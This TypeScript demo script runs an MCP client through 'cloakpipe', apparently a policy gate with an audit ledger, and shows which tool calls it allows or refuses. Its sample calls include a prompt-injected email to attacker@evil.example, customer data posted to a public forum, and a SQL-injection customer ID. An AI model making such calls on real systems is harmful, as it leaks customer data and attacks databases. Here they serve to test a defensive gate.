// `npm run demo`: the gate in front of the bundled example server, with the example manifest,
// policy and task context. Shows allowed and refused calls, the ledger, and an offline verify.
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url)); // dist/examples/demo
const root = resolve(here, '../../..');
const src = join(root, 'examples/demo');
const cli = join(root, 'dist/src/cli/main.js');
const home = mkdtempSync(join(tmpdir(), 'cloakpipe-demo-'));

const cloakpipe = (...args: string[]) => spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8' });
const say = (s: string) => process.stdout.write(s + '\n');

say(`$ cloakpipe init --home ${home}`);
process.stdout.write(cloakpipe('init', '--home', home).stdout);

const transport = new StdioClientTransport({
  command: process.execPath,
  args: [
    cli, 'mcp-proxy', '--home', home,
    '--manifest', join(src, 'manifest.yaml'), '--policy', join(src, 'policy.cedar'), '--context', join(src, 'context.json'),
    '--', process.execPath, join(here, 'server.js'),
  ],
  stderr: 'inherit',
});
const client = new Client({ name: 'demo-host', version: '1.0.0' });
await client.connect(transport);
const { tools } = await client.listTools();
say(`\nupstream tools: ${tools.map((t) => t.name).join(', ')}\n`);

const calls: [string, string, Record<string, unknown>][] = [
  ['a declared lookup', 'lookup_customer', { customer_id: 'C104200' }],
  ['an email to the ticket\'s customer', 'send_email', { to: 'ada@example.com', subject: 'Your ticket', body: 'Fixed.' }],
  ['an email to an address the task does not name (prompt injection)', 'send_email', { to: 'attacker@evil.example', subject: 'data' }],
  ['customer data to a public forum (the session has read confidential data)', 'post_to_forum', { text: 'Ada Lovelace, plan standard' }],
  ['a tool the release does not declare', 'delete_account', { customer_id: 'C104200' }],
  ['an argument the tool does not list', 'lookup_customer', { customer_id: 'C104200', include_card: true }],
  ['a value outside its rule', 'lookup_customer', { customer_id: "C1' OR 1=1" }],
];
for (const [what, name, args] of calls) {
  try {
    const r = await client.callTool({ name, arguments: args });
    const text = (r.content as { type: string; text?: string }[]).map((c) => c.text ?? '').join(' ');
    say(`ALLOWED  ${name.padEnd(16)} ${what}\n         → ${text}`);
  } catch (e) {
    if (!(e instanceof McpError)) throw e;
    const data = e.data as { reason: string; detail: string; entry: number };
    say(`REFUSED  ${name.padEnd(16)} ${what}\n         → ${data.reason}: ${data.detail} (ledger entry ${data.entry})`);
  }
}
await client.close();

say(`\n$ cloakpipe ledger show --home ${home}`);
process.stdout.write(cloakpipe('ledger', 'show', '--home', home).stdout);
say(`\n$ cloakpipe ledger anchor --home ${home}     # seal an epoch (add --tsa/--rekor to anchor it outside)`);
const sealed = cloakpipe('ledger', 'anchor', '--home', home);
process.stdout.write(sealed.stdout + sealed.stderr);
if (existsSync(join(root, 'dist/src/cli/verify.js'))) {
  say(`\n$ cloakpipe verify --home ${home}`);
  const v = cloakpipe('verify', '--home', home);
  process.stdout.write(v.stdout + v.stderr);
  process.exitCode = v.status ?? 1;
}
